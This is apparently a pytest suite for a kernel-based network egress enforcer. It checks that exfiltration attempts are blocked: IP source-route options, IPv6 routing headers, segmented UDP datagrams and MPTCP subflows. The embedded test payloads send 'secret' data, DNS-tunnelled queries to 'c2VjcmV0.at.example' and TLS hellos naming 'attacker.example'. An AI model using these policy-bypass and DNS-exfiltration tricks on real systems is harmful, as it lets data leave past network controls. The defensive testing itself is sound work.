"""Packets that go elsewhere than was judged, and datagrams that are several."""

from __future__ import annotations

import contextlib
import ctypes
import socket
import struct
from collections.abc import Iterator

import pytest

from kaizen_security.collectors.kernel.bpf import Map
from kaizen_security.collectors.kernel.policy import Table, compile_rules
from kaizen_security.collectors.kernel.shapes import Agent, Kind, Reason
from kaizen_security.contract.declaration import Declaration
from kaizen_security.contract.policy import Policy
from tests.e2e.sidecar_process import until
from tests.kernel.test_enforce import CLIENT, NAMES
from tests.kernel.world import RESOLVER, alone, listener, question, resolver

TO, VIA = "127.0.0.43", "127.0.0.44"
SOURCE_ROUTE = f"""
def led(kind, code):
    sock = socket.socket(socket.AF_INET, kind); sock.setblocking(False)
    sock.setsockopt(socket.IPPROTO_IP, 4, bytes([code, 7, 4]) + socket.inet_aton("{VIA}") + b"\\0")  # IP_OPTIONS
    sock.connect(("{TO}", 80)); sock.send(b"secret"); return "sent"
"""
ROUTING_HEADER = """
def led(kind, code):
    sock = socket.socket(socket.AF_INET6, kind); sock.setblocking(False)
    head = bytes([0, 4, 4, 1, 1, 0, 0, 0]) if code == 57 else bytes([0, 0, 1, 4, 0, 0, 0, 0])
    if code == 57: head += socket.inet_pton(10, "::1") * 2  # IPV6_RTHDR of type 4, else IPV6_DSTOPTS
    sock.setsockopt(41, code, head)
    sock.connect(("::1", 80)); sock.send(b"secret"); return "sent"
"""
DATAGRAM, STREAM = "socket.SOCK_DGRAM", "socket.SOCK_STREAM"


class Sniffer:
    """Counts packets on loopback that an agent may not send, or may: ``seen`` says how many came."""

    def __init__(self) -> None:
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)

    def look_for(self, offset: int, width: int, *values: int) -> None:
        """Packets that have one of ``values`` there, in ``width`` bytes, and no others: loopback is everybody's."""
        load = {1: 0x30, 4: 0x20}[width]  # BPF_LD | BPF_ABS (linux/bpf_common.h)
        words = [(load, 0, 0, offset)]
        words += [(0x15, len(values) - n, 0, value) for n, value in enumerate(values)]  # BPF_JMP | BPF_JEQ
        words += [(0x06, 0, 0, 0), (0x06, 0, 0, 0x40000)]  # BPF_RET
        code = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *one) for one in words))
        self.sock.setsockopt(socket.SOL_SOCKET, 26, struct.pack("@HP", len(words), ctypes.addressof(code)))
        self.sock.bind(("lo", 3))  # ETH_P_ALL

    def seen(self) -> int:
        count = 0
        with contextlib.suppress(BlockingIOError):
            while self.sock.recv(4096, socket.MSG_DONTWAIT):
                count += 1
        return count


@pytest.fixture
def sniffer() -> Iterator[Sniffer]:
    found = Sniffer()
    with found.sock:
        yield found


def address(text: str) -> tuple[int, int, int]:
    """Where a packet of IPv4 has its destination, behind the link's 14 bytes."""
    return 14 + 16, 4, int.from_bytes(socket.inet_aton(text))


EXTENDED = (14 + 6, 1, 43, 60)
"""Where IPv6 says what follows its header: a routing header, or options for the destination."""


def in_force(agent, flags: Agent) -> None:
    rules = compile_rules(
        Declaration(destinations=(TO, "127.0.0.2", "::1", "api.example")),
        (),
        also=(f"{RESOLVER}:53",),
        limited=bool(flags & Agent.ENFORCE),
    )
    Table(agent.collector, 0).put(rules, flags)


@pytest.mark.root
@pytest.mark.parametrize("kind", [STREAM, DATAGRAM])
@pytest.mark.parametrize("code", [131, 137], ids=["loose", "strict"])
def test_a_source_route_does_not_lead_around_the_declaration(agent, sniffer, kind: str, code: int):
    sniffer.look_for(*address(VIA))
    in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
    said = agent.python(CLIENT + SOURCE_ROUTE + f"said(lambda: led({kind}, {code}))").strip()
    assert said == ("EPERM" if kind == DATAGRAM else "EINPROGRESS")
    assert sniffer.seen() == 0
    told = [(e.address, e.reason) for e in agent.events() if e.kind is Kind.SEND and e.address == VIA]
    assert told == [(VIA, Reason.REFUSED_PROTOCOL)]


@pytest.mark.root
def test_in_observe_mode_it_is_told_where_a_source_route_leads(agent, sniffer):
    sniffer.look_for(*address(VIA))
    in_force(agent, Agent.LIVE)
    assert agent.python(CLIENT + SOURCE_ROUTE + f"said(lambda: led({DATAGRAM}, 131))") == "sent\n"
    assert sniffer.seen() > 0
    told = [(e.address, e.reason) for e in agent.events() if e.kind is Kind.SEND]
    assert told == [(VIA, Reason.PASSED)]


@pytest.mark.root
def test_other_options_of_an_address_are_no_route(agent, sniffer):
    sniffer.look_for(*address(TO))
    in_force(agent, Agent.ENFORCE)
    code = SOURCE_ROUTE.replace("bytes([code, 7, 4])", "bytes([1, 7, 7, 4])").replace(
        f'socket.inet_aton("{VIA}")', "bytes(4)"
    )
    assert agent.python(CLIENT + code + f"said(lambda: led({DATAGRAM}, 0))") == "sent\n"
    assert sniffer.seen() > 0


@pytest.mark.root
@pytest.mark.parametrize("kind", [STREAM, DATAGRAM])
@pytest.mark.parametrize("code", [57, 59], ids=["routing header", "options that hide the transport"])
def test_an_extension_of_ipv6_does_not_leave(agent, sniffer, kind: str, code: int):
    sniffer.look_for(*EXTENDED)
    in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
    said = agent.python(CLIENT + ROUTING_HEADER + f"said(lambda: led({kind}, {code}))").strip()
    if said in ("ENOPROTOOPT", "EINVAL"):
        pytest.skip(f"this kernel does not have it: {said}")
    assert said == ("EPERM" if kind == DATAGRAM else "EINPROGRESS")
    assert sniffer.seen() == 0


@pytest.mark.root
def test_a_datagram_that_the_kernel_cuts_into_several_is_no_question(agent):
    """UDP_SEGMENT: behind a declared name's question stands another, which leaves as a datagram of its own."""
    in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
    first, second = question("api.example"), question("c2VjcmV0.at.example")
    size = max(len(first), len(second))
    code = f"""
def several():
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); sock.connect(("{RESOLVER}", 53))
    sock.setsockopt(17, 103, {size}); sock.send({first.ljust(size, bytes(1)) + second!r}); return "sent"
said(several)
"""
    with resolver(NAMES) as asked:
        said = agent.python(CLIENT + code).strip()
    if said == "ENOPROTOOPT":
        pytest.skip("this kernel does not cut datagrams")
    assert (said, asked) == ("EPERM", [])


@pytest.mark.root
def test_a_subflow_of_mptcp_has_its_hello_read(agent):
    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
    code = f"""
def front():
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)
    sock.connect(("127.0.0.2", 443)); sock.sendall(hello("attacker.example")); sock.shutdown(socket.SHUT_WR); return "sent"
ask({question("api.example")!r}); said(front)
"""
    with resolver(NAMES), listener("127.0.0.2", 443) as (_, heard):
        said = agent.python(CLIENT + code).strip()
    if said in ("EPROTONOSUPPORT", "ENOPROTOOPT"):
        pytest.skip(f"this kernel does not have it: {said}")
    assert said == "sent"
    assert [data for data in heard if b"attacker" in data] == []
    assert [e.reason for e in agent.events() if e.kind is Kind.HELLO] == [Reason.REFUSED_NAME]


@pytest.mark.root
def test_a_server_of_its_own_is_reached_whoever_of_its_processes_made_it(agent):
    in_force(agent, Agent.ENFORCE)
    code = """
import os
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    server = socket.create_server((address, 0), family=family)
    if os.fork() == 0:
        socket.create_connection(server.getsockname()[:2], timeout=60).close(); os._exit(0)
    print(os.waitstatus_to_exitcode(os.wait()[1]))
"""
    assert agent.python(CLIENT + code) == "0\n0\n"
    assert {e.reason for e in agent.events() if e.kind is Kind.CONNECT} == {Reason.PASSED_OWN}


@pytest.mark.root
def test_what_is_declared_with_its_port_is_declared_whosever_the_server_is(agent):
    """It is not looked for among sockets, for it is nearly always the proxy; what is declared without a port is."""
    rules = compile_rules(Declaration(destinations=("127.0.0.2:8443", "127.0.0.3")), (), limited=True)
    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
    code = """
for address, port in (("127.0.0.2", 8443), ("127.0.0.3", 8443)):
    with socket.create_server((address, port)) as server: socket.create_connection(server.getsockname(), timeout=60).close()
"""
    with alone():
        agent.python(CLIENT + code)
    told = [(e.address, e.reason) for e in agent.events() if e.kind is Kind.CONNECT]
    assert told == [("127.0.0.2", Reason.PASSED_DECLARED), ("127.0.0.3", Reason.PASSED_OWN)]


ANYWHERE = """
def any(family, address, bound=""):
    with socket.socket(family) as sock:
        if bound: sock.bind((bound, 0))
        sock.connect((address, 8090)); return "reached"
for family, address in ((socket.AF_INET, "0.0.0.0"), (socket.AF_INET6, "::ffff:0.0.0.0"), (socket.AF_INET6, "::")):
    said(lambda: any(family, address))
said(lambda: any(socket.AF_INET, "0.0.0.0", "127.0.0.77"))
said(lambda: any(socket.AF_INET6, "::", "::ffff:127.0.0.77"))
"""


@pytest.mark.root
@pytest.mark.parametrize("flags", [Agent.LIVE, Agent.ENFORCE], ids=["observe", "enforce"])
def test_the_address_of_no_host_is_not_a_way_to_a_denied_one_of_this_machine(agent, flags: Agent):
    """connect(2) to 0.0.0.0 or :: goes to loopback, or to what the socket is bound to."""
    policy = Policy("blocklist", {"ips": ["127.0.0.1", "127.0.0.77", "::1"]})
    Table(agent.collector, 0).put(compile_rules(Declaration(), (policy,), limited=False), flags)
    with (
        listener("127.0.0.1", 8090) as (_, heard),
        listener("127.0.0.77", 8090) as (_, bound),
        listener("::1", 8090) as (_, six),
    ):
        assert agent.python(CLIENT + ANYWHERE).splitlines() == ["EPERM"] * 5
    assert (heard, bound, six) == ([], [], [])
    assert {e.reason for e in agent.events() if e.kind is Kind.CONNECT} == {Reason.REFUSED_DENIED}


FULL = """
def full(kind):
    # A filter as large as a socket may have (optmem_max), so that there is no room on it for more: not for whose it is either.
    def filtered(sock, wide, narrow):
        words = struct.pack("=HBBI", 0x20, 0, 0, 0) * wide + struct.pack("=HBBI", 0, 0, 0, 0) * narrow  # BPF_LD: W ABS, IMM
        code = ctypes.create_string_buffer(words + struct.pack("=HBBI", 6, 0, 0, 65535))
        value = struct.pack("@HP", wide + narrow + 1, ctypes.addressof(code))
        try: sock.setsockopt(socket.SOL_SOCKET, 26, value)
        except OSError as err: return errno.errorcode[err.errno] != "ENOMEM"
        return True
    def most(fits, room):
        low = 0
        while low < room:
            middle = (low + room + 1) // 2
            with socket.socket(socket.AF_INET, kind) as sock:
                low, room = (middle, room) if fits(sock, middle) else (low, middle - 1)
        return low
    wide = most(lambda sock, n: filtered(sock, n, 0), 4000)
    narrow = most(lambda sock, n: filtered(sock, wide, n), 4095 - wide)
    sock = socket.socket(socket.AF_INET, kind)
    assert filtered(sock, wide, narrow)
    return sock
"""


@pytest.mark.root
@pytest.mark.parametrize("table", ["free", "full"])
def test_a_socket_that_has_no_room_to_note_whose_it_is_asks_no_question(agent, table: str):
    in_force(agent, Agent.ENFORCE | Agent.QUIC_SHUT)
    if table == "full":
        fill(agent)
    code = f"""
import ctypes
sock = full({DATAGRAM})
def asks():
    sock.connect(("{RESOLVER}", 53)); sock.send({question("c2VjcmV0.at.example")!r}); return "sent"
said(asks)
"""
    with resolver(NAMES) as asked:
        assert (agent.python(CLIENT + FULL + code).strip(), asked) == ("EPERM", [])
    assert agent.collector.counters()["lost_mark"] == (table == "full")
    assert [e.name for e in agent.events() if e.kind is Kind.QUESTION] == ["c2vjcmv0.at.example"] * (table == "free")


FRONT = f"""
def front():
    sock = socket.create_connection(("127.0.0.2", 443))
    sock.sendall(hello("attacker.example")); sock.shutdown(socket.SHUT_WR); return "sent"
ask({question("api.example")!r}); said(front)
"""


CONNECTION = struct.Struct("=Q80s")


def connections(agent) -> Map:
    """The programs' places of connections: the socket's cookie, and whose it is."""
    return Map(agent.collector._maps["connections"], value=CONNECTION.size)


def noted(agent) -> list[int]:
    """Cookies of the sockets that have a place."""
    table = connections(agent)
    found = (table.get(key) for key in table.keys(4))
    return [cookie for value in found if value for cookie, _ in [CONNECTION.unpack(value)] if cookie]


def fill(agent) -> None:
    """Those places, with what belongs to nobody."""
    table, placed = connections(agent), 0
    for key in table.keys(4):
        table.put(key, CONNECTION.pack(1 << 62, bytes(80)))
        placed += 1
    assert placed > 4000


@pytest.mark.root
def test_a_connection_has_its_hello_read_though_the_table_of_connections_is_full(agent):
    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
    fill(agent)
    with resolver(NAMES), listener("127.0.0.2", 443) as (_, heard):
        assert agent.python(CLIENT + FRONT).strip() == "sent"
    assert [data for data in heard if b"attacker" in data] == []
    assert [e.reason for e in agent.events() if e.kind is Kind.HELLO] == [Reason.REFUSED_NAME]


@pytest.mark.root
def test_of_connections_that_are_gone_nothing_is_kept(agent):
    code = """
import socket
for n in range(200):
    with socket.create_connection(("127.0.0.2", int(sys.argv[1]))) as sock: sock.sendall(b"x"); sock.recv(1)
"""
    with listener("127.0.0.2") as (port, heard):
        agent.python(CLIENT + code.replace("int(sys.argv[1])", str(port)))
    assert len(heard) == 200
    assert len([e for e in agent.events() if e.kind is Kind.CONNECT]) == 200
    until(lambda: not noted(agent), "the end of the last connection")


@pytest.mark.root
def test_a_datagram_socket_is_known_until_nobody_has_it_any_more(agent):
    """Whoever closed it first, and whoever asks by it last."""
    rules = compile_rules(Declaration(destinations=("api.example",)), (), also=(f"{RESOLVER}:53",), limited=True)
    Table(agent.collector, 0).put(rules, Agent.ENFORCE)
    code = f"""
import os
def child(sock):
    os.read(go, 1); said(lambda: sock.send({question("c2VjcmV0.at.example")!r})); sys.stdout.flush(); os._exit(0)
for n in range(300):
    sock = socket.socket(socket.AF_INET, {DATAGRAM}); sock.connect(("{RESOLVER}", 53)); sock.close()
    sock = socket.socket(socket.AF_INET, {DATAGRAM})
    sock.sendto({question("api.example")!r}, ("{RESOLVER}", 53)); sock.close()
go, tell = os.pipe()
sock = socket.socket(socket.AF_INET, {DATAGRAM}); sock.connect(("{RESOLVER}", 53))
if not os.fork(): child(sock)
sock.close(); os.write(tell, b"x"); os.wait()
"""
    with resolver(NAMES) as asked:
        assert agent.python(CLIENT + code).split() == ["EPERM"]
    assert set(asked) == {"api.example"}
    assert not noted(agent)
